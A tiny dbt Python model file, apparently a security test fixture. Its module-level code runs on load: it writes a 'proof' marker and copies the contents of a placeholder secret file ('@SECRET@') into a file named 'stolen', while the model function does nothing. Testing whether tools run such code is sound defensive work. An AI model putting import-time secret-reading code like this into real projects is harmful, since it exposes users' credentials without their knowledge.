{{ config(materialized='act') }}
open('proof', 'w').write('ran')
open('stolen', 'w').write(open('@SECRET@').read())
def model(dbt, session):
    return None
